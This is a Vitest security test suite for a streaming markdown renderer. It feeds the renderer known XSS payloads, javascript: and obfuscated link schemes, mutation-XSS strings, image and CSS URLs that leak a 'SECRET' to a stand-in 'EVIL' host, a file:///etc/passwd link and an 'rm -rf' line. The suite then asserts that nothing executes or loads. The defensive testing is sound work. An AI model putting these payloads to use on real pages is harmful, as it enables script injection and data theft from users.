import { afterEach, describe, expect, test, vi } from 'vitest';
import { copyableText } from './copyable-text.js';
import { GrowingMarkdown } from './growing-markdown.js';
import type { MarkdownNodesOptions } from './markdown-nodes.js';

/** A server that must never get a request. Nothing listens there; even an attempt is recorded. */
const EVIL = 'http://127.0.0.1:9';

/** The elements that may be on the page, each with its allowed attributes. */
const allowed: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'title', 'target', 'rel'],
  blockquote: [],
  br: [],
  button: ['type', 'class', 'aria-label', 'data-copy'],
  code: [],
  div: ['class', 'role', 'tabindex', 'aria-label'],
  em: [],
  h3: [],
  h4: [],
  hr: [],
  li: ['class'],
  ol: ['start'],
  p: ['class'],
  pre: ['class', 'tabindex'],
  s: [],
  span: ['class', 'role', 'aria-label', 'data-done'],
  strong: [],
  table: [],
  tbody: [],
  td: ['data-align'],
  th: ['data-align'],
  thead: [],
  tr: [],
  ul: [],
};

const attacks: readonly (readonly [row: string, text: string])[] = [
  ['R1', `![x](${EVIL}/?q=SECRET)`],
  ['R1', `[![x](${EVIL}/a.png)](${EVIL}/b "t")`],
  ['R1', `![x][evil]\n\n[evil]: ${EVIL}/c.png 'title'\n`],
  ['R1', `![x](<${EVIL}/d.png>)\n![y](//127.0.0.1:9/e.png)\n![z](/f.png)`],
  ['R1', `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRyYXAoKSI+)\n![y](data:image/png;base64,AAAA)`],
  ['R1', `<img src="${EVIL}/g.png" srcset="${EVIL}/h.png 2x"><video poster="${EVIL}/i.png" src="${EVIL}/j">`],
  ['R1', `<div style="background:url(${EVIL}/k.png)">x</div><style>@import "${EVIL}/l.css"</style>`],
  ['R1', `<link rel="preload" href="${EVIL}/m.js" as="script"><base href="${EVIL}/">`],
  ['R2', '<script>trap()</script>\n\n<img src=x onerror="trap()">\n<svg onload=trap()>'],
  ['R2', '<iframe srcdoc="<script>parent.trap()</script>"></iframe><object data="javascript:trap()">'],
  [
    'R2',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=trap()&gt;">',
  ],
  ['R2', '<svg><foreignObject><body onload="trap()"></foreignObject></svg><details open ontoggle=trap()>'],
  [
    'R2',
    '[a](javascript:trap()) [b](JaVaScRiPt:trap()) [c](java&#115;cript:trap()) [d](&#x6A;avascript:trap())',
  ],
  ['R2', '[a](<java\tscript:trap()>) [b](\u0001javascript:trap()) [c](vbscript:trap()) <javascript:trap()>'],
  ['R2', '[a](data:text/html,<script>trap()</script>)\n\n[b]: javascript:trap()\n\n[b] [c][b]'],
  ['R2', '```"><img src=x onerror=trap()>\n</code></pre><script>trap()</script>\n```\n'],
  [
    'R2',
    '`<img src=x onerror=trap()>` **<img src=x onerror=trap()>**\n\n| <img src=x onerror=trap()> |\n|---|\n',
  ],
  ['R2', '&lt;img src=x onerror=trap()&gt; &#60;script&#62;trap()&#60;/script&#62;'],
  [
    'R9',
    '[a](file:///etc/passwd) [b](blob:http://x/1) [c](ftp://x/) [d](about:blank) [e](ms-word:x) <file:///x>',
  ],
];

/** Returns the descendants and attributes of an element that are not allowed. */
function strangers(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const known = allowed[element.localName];
    if (!known) return [element.outerHTML];
    const attributes = element.getAttributeNames().filter((name) => !known.includes(name));
    const href = element.getAttribute('href');
    const leads = href === null || /^(https?:|mailto:)/.test(href);
    return attributes.length === 0 && leads ? [] : [element.outerHTML];
  });
}

const requests = () =>
  performance
    .getEntriesByType('resource')
    .filter(({ name }) => name.startsWith(EVIL) || name.endsWith('f.png'));

const shown: Element[] = [];
afterEach(() => {
  shown.splice(0).forEach((element) => element.remove());
  performance.clearResourceTimings();
});

/** Draws every prefix into the page, so that everything that can run or load does so. */
function stream(
  text: string,
  look: (root: HTMLElement) => void,
  options?: MarkdownNodesOptions,
): HTMLElement {
  const root = document.body.appendChild(document.createElement('div'));
  shown.push(root);
  const markdown = new GrowingMarkdown(root, options);
  for (let length = 1; length <= text.length; length++) {
    // Also draws the text as if it ended here.
    for (const isGrowing of [true, false]) {
      while (!markdown.draw(text.slice(0, length), isGrowing));
      look(root);
    }
  }
  return root;
}

describe('R3 inert at every prefix', () => {
  test.each(attacks)('%s %s', async (_, text) => {
    const trap = vi.fn();
    vi.stubGlobal('trap', trap);
    const found = new Set<string>();
    const root = stream(text, (at) => strangers(at).forEach((stranger) => found.add(stranger)));
    root
      .querySelectorAll('a')
      .forEach((link) => link.addEventListener('click', (event) => event.preventDefault()));
    root.querySelectorAll('a').forEach((link) => link.click());
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect([...found]).toEqual([]);
    expect(trap).not.toHaveBeenCalled();
    expect(requests()).toEqual([]);
    vi.unstubAllGlobals();
  });

  test("the test's record of requests works: an image of an allowed origin is recorded", async () => {
    const root = stream(`![a map](${EVIL}/allowed.png)`, () => {}, { imageOrigins: [EVIL] });
    expect(root.querySelector('img')!.alt).toBe('a map');
    // Images are lazy: they are loaded when they become visible.
    root.querySelector('img')!.scrollIntoView();
    await expect.poll(() => requests().map(({ name }) => name)).toContain(`${EVIL}/allowed.png`);
  });

  test("the test's list works: an element or attribute that is not on it is found", () => {
    const root = document.createElement('div');
    const script = document.createElement('script');
    const link = document.createElement('a');
    link.setAttribute('href', 'javascript:trap()');
    const words = document.createElement('p');
    words.setAttribute('onclick', 'trap()');
    root.append(script, link, words);
    expect(strangers(root)).toHaveLength(3);
  });

  test('R10 nothing uses an API that Trusted Types guards', () => {
    const doors = [
      vi.spyOn(Element.prototype, 'innerHTML', 'set'),
      vi.spyOn(Element.prototype, 'outerHTML', 'set'),
      vi.spyOn(Element.prototype, 'insertAdjacentHTML'),
      vi.spyOn(DOMParser.prototype, 'parseFromString'),
      vi.spyOn(Range.prototype, 'createContextualFragment'),
      vi.spyOn(document, 'write'),
      vi.spyOn(window, 'eval'),
    ];
    for (const [, text] of attacks) stream(text, () => {});
    expect(doors.flatMap((door) => door.mock.calls)).toEqual([]);
    doors.forEach((door) => door.mockRestore());
  });
});

describe('nothing is hidden', () => {
  const drawn = (text: string) => stream(text, () => {});

  test('R1 an image becomes a link with its alternative text, and its target is shown', () => {
    const root = drawn('![a cat](https://images.example/cat.png?q=1)');
    expect(root.textContent).toBe('Image: a cat (images.example)');
    expect(root.querySelector('a')!.href).toBe('https://images.example/cat.png?q=1');
  });

  test('R2 raw HTML is shown as text', () => {
    expect(drawn('a <b onclick="x()">bold</b>').textContent).toBe('a <b onclick="x()">bold</b>');
  });

  test('R5 the target of a link is shown if the link text differs', () => {
    expect(drawn('[https://bank.example](https://evil.example/login)').textContent).toBe(
      'https://bank.example (evil.example)',
    );
    expect(drawn('<https://docs.example/a>').textContent).toBe('https://docs.example/a');
    expect(drawn('[write](mailto:a@b.example)').textContent).toBe('write (a@b.example)');
  });

  test('R5 look-alike letters in a target are distinguishable', () => {
    const root = drawn('[аpple](https://аpple.com) and https://аpple.com');
    expect(root.textContent).toBe('аpple (xn--pple-43d.com) and https://аpple.com (xn--pple-43d.com)');
  });

  test('R5 a target whose user name looks like a server is not a link', () => {
    const root = drawn('[a](https://bank.example@evil.example/)');
    expect(root.querySelector('a')).toBeNull();
    expect(root.textContent).toContain('https://bank.example@evil.example/');
  });

  test.each([
    ['in text', 'a\u202Eb\u200Bc'],
    ['in code', '`a\u202Eb\u200Bc`'],
    ['in a block of code', '```\na\u202Eb\u200Bc\n```'],
    ['in the words of a link', '[a\u202Eb\u200Bc](https://x.example)'],
    ['by its entity', 'a&#x202E;b&#x200B;c'],
    ['in the words of an image', '![a\u202Eb\u200Bc](https://x.example)'],
  ])('R5 an invisible character is shown by its code: %s', (_, text) => {
    expect(drawn(text).textContent).toContain('a⟨U+202E⟩b⟨U+200B⟩c');
  });

  test('R9 an address that cannot be followed is shown as text', () => {
    expect(drawn('[a](ftp://files.example/x)').textContent).toContain('ftp://files.example/x');
  });

  test('R6 copied code has no escape sequence, and no line break that would run it in a terminal', () => {
    const root = drawn('```sh\nls \u001B[31m\nrm -rf x\n\n```\n');
    expect(copyableText(root.querySelector('code')!)).toBe('ls ⟨U+001B⟩[31m\nrm -rf x');
  });
});
